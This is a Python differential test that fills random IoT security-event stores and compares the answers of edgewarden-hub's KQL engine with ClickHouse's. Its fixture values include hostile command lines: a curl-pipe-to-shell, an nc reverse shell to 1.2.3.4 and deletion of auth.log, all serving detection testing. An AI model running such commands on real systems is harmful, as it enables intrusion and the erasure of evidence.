"""Queries on random stores, answered by edgewarden-hub and by ClickHouse, which must agree.

    differential.py HUB DATA_SETS SEED QUERIES...

HUB is the program. QUERIES are files of one query each, or of several apart by a line of ====. The other engine is chDB,
ClickHouse as a Python module; its Kusto dialect lacks two old spellings, which are defined in the recipe. Needs the package
that scripts/setup-kql.sh installs.

What is random is the content: missing keys, null, text for numbers and numbers for text, quotes, control characters,
broken JSON, rows that are there twice, other devices and hubs. Kept out is what the two engines define apart and no agent
writes: objects where the schema has text, times that are no RFC 3339.

The investigation guide's queries and those in further.kql have to run. Of the project's other queries ClickHouse's dialect
knows a part; which ones it refuses is printed.
"""

import collections
import datetime
import json
import pathlib
import random
import re
import sqlite3
import subprocess
import sys
import tempfile

from chdb.session import Session

DEVICE, HUB = "YOUR_DEVICE_ID", "YOUR_HUB_NAME"
COLUMNS = ["TimeGenerated", "AgentVersion", "AssociatedResourceId", "AzureSubscriptionId", "DeviceId", "EventDetails",
           "IoTRawEventId", "IsEmpty", "RawEventCategory", "RawEventName", "RawEventType", "TimeStamp", "Type"]
ALERT_COLUMNS = ["TimeGenerated", "AlertName", "AlertSeverity", "Description", "ExtendedProperties", "ResourceId", "Status",
                 "CompromisedEntity", "StartTime", "EndTime"]
TIMES = {"TimeGenerated", "TimeStamp", "StartTime", "EndTime"}
# Kusto's makeset keeps this many; which ones it does not say.
MAKESET_KEEPS = 128
JOINS = ["inner", "leftouter", "rightouter", "fullouter"]

WORDS = ["root", "pi", "(invalid user)", "(INVALID user)", "(unknown user)", "", "a b", "o'brien", 'quo"te', "täst", "日本",
         "back\\slash", "tab\there", "line\nend", "bell\x07", "nul\x00", "x" * 300, "\U0001f600", "<script>", "%s", "$.a"]
ADDRESSES = ["127.0.0.1", "::1", "0.0.0.0", "::", "198.51.100.7", "203.0.113.9", "2001:db8::1", ""]
PORTS = ["22", "80", "1024", "1025", "0", "65535", "*", "631x", "53248-53250", "22,53", "", "-1", "99999999999",
         "９"]


def moment(rng):
    fraction = rng.choice(["", ".5", ".123", ".123456", ".1234567"])
    zone = rng.choice(["Z", "+01:00", "-05:30", "+00:00"])
    return (f"20{rng.randint(20, 30)}-{rng.randint(1, 12):02}-{rng.randint(1, 28):02}"
            f"T{rng.randint(0, 23):02}:{rng.randint(0, 59):02}:{rng.randint(0, 59):02}{fraction}{zone}")


def recently(rng):
    """A stored moment of the last 45 days, none of them just at the edge of a query's `ago(30d)`."""
    at = NOW - datetime.timedelta(hours=rng.randrange(45 * 24), minutes=30, microseconds=rng.choice([0, 0, 1, 500_000]))
    return at.strftime("%Y-%m-%dT%H:%M:%S.%fZ")


NOW = datetime.datetime.now(datetime.timezone.utc).replace(microsecond=0)


def value_of(rng, key, wide):
    if rng.random() < 0.03:
        # ClickHouse makes a date of a bare number.
        return rng.choice([None, True, False] + ([] if key == "TimestampLocal" else [17, -1, 1.5]))
    if key == "TimestampLocal":
        return rng.choice([moment(rng)] * 9 + ["not a time", ""])
    if "Port" in key:
        return rng.choice([rng.choice(PORTS), rng.randint(-5, 70000)])
    if "Address" in key:
        return f"10.0.{rng.randrange(9)}.{rng.randrange(256)}" if wide else rng.choice(ADDRESSES)
    if key in ("UserId", "ProcessId"):
        return rng.choice([str(rng.randint(0, 5)), rng.randint(0, 5), "(unknown)"])
    if wide and key == "CommandLine":
        return f"sleep {rng.randrange(400)}"
    return rng.choice(VALUES.get(key, WORDS) if rng.random() < 0.7 else WORDS)


# What the project's own queries look at.
VALUES = {
    "Result": ["Success", "Fail"], "Executable": ["/usr/sbin/sshd", "/bin/sh", "/tmp/x", "/memfd:a", "/home/pi/run"],
    "CommandLine": ["sh -c 'curl http://a | sh'", "nc -e /bin/sh 1.2.3.4 9", "rm /var/log/auth.log", "crontab -e"],
    "Shell": ["/bin/bash", "/usr/sbin/nologin"], "PasswordLogin": ["yes", "no", "empty"], "Severity": ["Error", "Warning"],
    "Lifecycle": ["started", "stopped"], "Before": ["killed", "powerLost", "stopped"], "ClockSuspect": ["true"],
    "Deleted": ["true"], "EffectiveUserId": ["0"], "ParentExecutable": ["/usr/sbin/nginx"], "Vanished": ["LocalUsers"],
}

KEYS = {
    "LocalUsers": ["UserName", "UserId", "GroupNames", "GroupIds"],
    "ListeningPorts": ["Protocol", "LocalAddress", "LocalPort", "RemoteAddress", "RemotePort"],
    "Login": ["UserName", "UserId", "Executable", "RemoteAddress", "RemotePort", "Result", "Operation", "ProcessId"],
    "ProcessCreate": ["Executable", "CommandLine", "UserId", "ProcessId", "ParentProcessId"],
    "Diagnostic": ["Message", "Severity"],
}

EXTRA = {
    "LocalUsers": ["Shell", "PasswordLogin"],
    "ListeningPorts": ["Executable"],
    "Login": ["Method", "ClockSuspect"],
    "ProcessCreate": ["Script", "ParentExecutable", "Deleted", "EffectiveUserId"],
    "Diagnostic": ["ForgedLine", "WriterExecutable", "WriterUserId", "Lifecycle", "Before", "Vanished"],
}


def details(rng, name, wide):
    keys = ["TimestampLocal"] + KEYS[name]
    out = {key: value_of(rng, key, wide) for key in keys if rng.random() > 0.1}
    if rng.random() < (0.9 if wide else 0.3):
        # Few values, so that groups have several members.
        out.update({key: value for key, value in
                    {"Executable": "/bin/sh", "Protocol": "TCP", "UserName": "root", "Result": "Fail"}.items()
                    if key in keys})
    if rng.random() < 0.5:
        out["ExtraDetails"] = {key: value_of(rng, key, wide) for key in EXTRA[name] if rng.random() < 0.6}
    text = json.dumps(out, ensure_ascii=rng.random() < 0.3, separators=(",", ":"))
    if rng.random() < 0.05:
        text = rng.choice([text[: rng.randrange(len(text))], "", "null", "[]", "nonsense", "{}", "7"])
    return text


def device_and_hub(rng):
    device = rng.choice([DEVICE] * 6 + ["your_device_id", "OTHER", DEVICE + "2", "prüf'\"stand", ""])
    hub = rng.choice([HUB.lower()] * 6 + [HUB, "Your_Hub_Name", "other_hub", "your_hub_name_2", ""])
    return device, f"/subscriptions/0/devices/iothubs/{hub}"


def properties(rng, device):
    """What other products write as ExtendedProperties, too."""
    text = json.dumps({"DeviceId": device, "Remote Address": rng.choice(ADDRESSES), "User Name": rng.choice(WORDS)},
                      ensure_ascii=rng.random() < 0.3)
    return rng.choice([text] * 5 + ["", "{}", "null", "no JSON", f"about {device}", text.lower()])


def data_set(rng):
    """Rows of both tables. Some sets have more distinct values than a set keeps."""
    wide = rng.random() < 0.06
    events, alerts = [], []
    for number in range(600 if wide else rng.choice([0, 1, 5, 40, 120])):
        device, resource = device_and_hub(rng)
        name = "ProcessCreate" if wide and rng.random() < 0.8 else rng.choice(list(KEYS))
        events.append([recently(rng), "1", resource, "", device, details(rng, name, wide),
                       f"id-{number}", rng.choice([0, 0, 1]), rng.choice(["Triggered", "Periodic"]), name, "Security",
                       recently(rng), "SecurityIoTRawEvent"])
        if rng.random() < 0.1:
            # The same again under another id: it counts.
            events.append(events[-1][:6] + [f"again-{number}"] + events[-1][7:])
    for _ in range(rng.choice([0, 1, 5, 20])):
        device, resource = device_and_hub(rng)
        alerts.append([recently(rng), rng.choice(WORDS), rng.choice(["High", "Low", "Medium"]), rng.choice(WORDS),
                       properties(rng, device), resource, rng.choice(["New", "New", "Dismissed"]), device,
                       recently(rng), recently(rng)])
    return events, alerts


class Clickhouse:
    def __init__(self):
        self.session = Session()
        text = lambda columns: ", ".join(f"{name} {kind(name)}" for name in columns)
        kind = lambda name: "DateTime64(7, 'UTC')" if name in TIMES else "Bool" if name == "IsEmpty" else "String"
        for sql in [
            f"CREATE TABLE SecurityIoTRawEvent ({text(COLUMNS)}) ENGINE = Memory",
            f"CREATE TABLE SecurityAlert ({text(ALERT_COLUMNS)}) ENGINE = Memory",
            *FUNCTIONS,
            "SET date_time_input_format = 'best_effort'",
            "SET allow_experimental_kusto_dialect = 1",
        ]:
            self.session.query(sql)

    def fill(self, table, columns, rows):
        self.session.query(f"TRUNCATE TABLE {table}")
        if rows:
            lines = "\n".join(json.dumps(dict(zip(columns, row))) for row in rows)
            self.session.query(f"INSERT INTO {table} FORMAT JSONEachRow {lines}")

    def answer(self, kql):
        self.session.query("SET dialect = 'kusto'")
        try:
            text = self.session.query(kql, "JSONEachRow").data()
        finally:
            self.session.query("SET dialect = 'clickhouse'")
        return [json.loads(line) for line in text.splitlines()]


FUNCTIONS = [
    path.strip() for path in (pathlib.Path(__file__).parents[2] / "packaging/hub/clickhouse/functions.sql")
    .read_text().split(";") if path.strip()
]


class Ours:
    """The store is made by the program and filled behind its back: an import would refuse half of these rows."""

    def __init__(self, program, directory):
        self.program, self.file = program, directory / "events.db"
        empty = directory / "empty.ndjson"
        empty.write_text("")
        self.run("import", "--db", self.file, "--table", "SecurityIoTRawEvent", empty)
        self.db = sqlite3.connect(self.file, isolation_level=None)
        # It looks into the JSON, which an import has checked and these rows are not.
        self.db.execute("DROP INDEX IF EXISTS StartsOfDevice")

    def run(self, *arguments):
        done = subprocess.run([self.program, *map(str, arguments)], capture_output=True)
        if done.returncode:
            sys.exit(f"{arguments} ended with {done.returncode}: {done.stderr.decode()}")
        return done.stdout.decode()

    def fill(self, table, columns, rows):
        known = [row[1] for row in self.db.execute(f"PRAGMA table_info({table})")]
        required = [row[1] for row in self.db.execute(f"PRAGMA table_info({table})") if row[3] and row[4] is None]
        others = [name for name in required if name not in columns]
        self.db.execute("BEGIN")
        self.db.execute(f"DELETE FROM {table}")
        names = [name for name in columns if name in known] + others
        sql = f"INSERT INTO {table} ({', '.join(names)}) VALUES ({', '.join('?' * len(names))})"
        for number, row in enumerate(rows):
            values = [value for name, value in zip(columns, row) if name in known]
            self.db.execute(sql, values + [self.filler(table, name, number) for name in others])
        self.db.execute("COMMIT")

    def filler(self, table, name, number):
        declared = {row[1]: row[2] for row in self.db.execute(f"PRAGMA table_info({table})")}[name]
        return 0 if name == "PayloadIndex" else number if declared == "INTEGER" else str(number)

    def answer(self, kql):
        return json.loads(self.run("query", "--db", self.file, "--format", "json", kql))


def plain(value):
    """A time is written apart by the two; everything else is the same JSON."""
    if isinstance(value, str) and re.fullmatch(r"\d{4}-\d\d-\d\d \d\d:\d\d:\d\d(\.\d{7})?", value):
        return value.replace(" ", "T") + ("Z" if "." in value else ".0000000Z")
    return value


def difference(ours, theirs, keeps=(MAKESET_KEEPS,)):
    """A sentence, or None. Neither rows nor the members of a set have an order; a set may be cut at one of the sizes."""
    if len(ours) != len(theirs):
        return f"{len(ours)} rows, ClickHouse has {len(theirs)}"
    is_set = lambda value: isinstance(value, list)
    key = lambda row: json.dumps([plain(value) for value in row.values() if not is_set(value)])
    for left, right in zip(sorted(ours, key=key), sorted(theirs, key=key)):
        # A right column of a join that has a left one's name has no name of Kusto's there.
        names = [name if not other.startswith("kql_right_") else other for name, other in zip(left, right)]
        if names != list(right):
            return f"columns {list(left)}, ClickHouse has {list(right)}"
        for name, mine, other in zip(left, left.values(), right.values()):
            if not is_set(mine) or not is_set(other):
                same = plain(mine) == plain(other)
            elif len(mine) < len(other):
                same = len(mine) in keeps and len(mine) == len(set(mine)) and set(mine) <= set(other)
            else:
                same = len(mine) <= max(keeps) and sorted(mine) == sorted(other)
            if not same:
                return f"{name} is {mine!r}, ClickHouse says {other!r} in {right}"
    return None


def queries_of(paths):
    """(name, text) of each; `kind=KIND` stands for several kinds of join."""
    for path in map(pathlib.Path, paths):
        parts = path.read_text().split("====\n")
        for number, text in enumerate(parts, 1):
            name = path.name if len(parts) == 1 else f"{path.name}#{number}"
            if "kind=KIND" in text:
                yield from ((f"{name} {kind}", text.replace("kind=KIND", f"kind={kind}")) for kind in JOINS)
            else:
                yield name, text


# make_set with a size is not known there.
SIZED_SET = re.compile(r"(make_set\((?:[^()]|\([^()]*\))*), (\d+)\)")


def compare(ours, clickhouse, name, text, must_run, tally):
    """Asks both. What ClickHouse's dialect refuses is left out from then on."""
    if name in tally["refused"]:
        return
    sizes = [int(size) for _, size in SIZED_SET.findall(text)]
    try:
        other = clickhouse.answer(SIZED_SET.sub(r"\1)", text))
    except Exception as error:
        if must_run:
            sys.exit(f"{name}: ClickHouse: {error}")
        tally["refused"].append(name)
        return
    mine = ours.answer(text)
    why = difference(mine, other, (MAKESET_KEEPS, *sizes))
    if why:
        sys.exit(f"{name}: {why}")
    tally["answers"][name] += 1
    tally["rows"][name] += len(mine)
    tally["full"] += any(isinstance(value, list) and len(value) == MAKESET_KEEPS for row in mine for value in row.values())


def main():
    program, data_sets, seed = sys.argv[1], int(sys.argv[2]), sys.argv[3]
    queries = list(queries_of(sys.argv[4:]))
    if not queries:
        sys.exit("no query is named")
    tally = {"answers": collections.Counter(), "rows": collections.Counter(), "refused": [], "full": 0}
    with tempfile.TemporaryDirectory() as directory:
        ours, clickhouse = Ours(program, pathlib.Path(directory)), Clickhouse()
        for number in range(data_sets):
            events, alerts = data_set(random.Random(f"{seed}/{number}"))
            for engine in (ours, clickhouse):
                engine.fill("SecurityIoTRawEvent", COLUMNS, events)
                engine.fill("SecurityAlert", ALERT_COLUMNS, alerts)
            for name, text in queries:
                must_run = name[0].isdigit() or name.startswith("further")
                try:
                    compare(ours, clickhouse, name, text, must_run, tally)
                except SystemExit as why:
                    sys.exit(f"data set {number} of seed {seed}, {why}")
    never = [name for name, text in queries if name not in tally["refused"] and tally["rows"][name] == 0]
    print(f"{data_sets} data sets, {len(tally['answers'])} queries, {tally['answers'].total()} answers, "
          f"{tally['rows'].total()} rows, {tally['full']} answers with a full set: all equal")
    if data_sets >= 100 and tally["full"] == 0:
        sys.exit("no set was large enough to be cut, so that is not tried")
    if tally["refused"]:
        print(f"not in ClickHouse's dialect, not compared: {', '.join(tally['refused'])}")
    if never:
        print(f"never a row, so nothing shown: {', '.join(never)}")


if __name__ == "__main__":
    main()
